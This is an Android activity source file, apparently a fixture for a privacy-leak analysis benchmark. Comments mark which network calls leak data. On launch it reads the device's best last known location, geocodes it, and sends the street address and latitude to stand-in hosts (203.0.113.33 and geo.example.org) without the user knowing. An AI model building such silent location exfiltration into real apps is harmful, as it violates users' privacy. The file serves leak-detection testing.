package ways;

import android.app.Activity;
import android.location.Address;
import android.location.Geocoder;
import android.location.Location;
import android.location.LocationManager;
import android.os.Bundle;
import java.io.OutputStream;
import java.net.URL;
import java.util.List;
import java.util.Locale;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.SSLSocketFactory;

/** The best of what is known, as an address. */
public class LastKnown extends Activity {
    private Location best(LocationManager manager) {
        Location best = null;
        for (String provider : manager.getProviders(true)) {
            Location one = manager.getLastKnownLocation(provider);
            if (one == null) continue;
            if (best == null || one.getAccuracy() < best.getAccuracy()) best = one;
        }
        return best;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Location here = best((LocationManager) getSystemService(LOCATION_SERVICE));
        try {
            List<Address> all = new Geocoder(this, Locale.US).getFromLocation(here.getLatitude(), here.getLongitude(), 1);
            SSLSocket socket = (SSLSocket) SSLSocketFactory.getDefault().createSocket("203.0.113.33", 443);
            OutputStream out = socket.getOutputStream();
            out.write("GET / HTTP/1.0\r\n".getBytes()); // no leak
            out.write(("X-At: " + all.get(0).getAddressLine(0) + "\r\n").getBytes()); // leak
            new URL("https://geo.example.org/?d=" + (int) (here.getLatitude() * 1e6)).openStream(); // leak
            new URL("https://geo.example.org/?l=" + Locale.US).openStream(); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
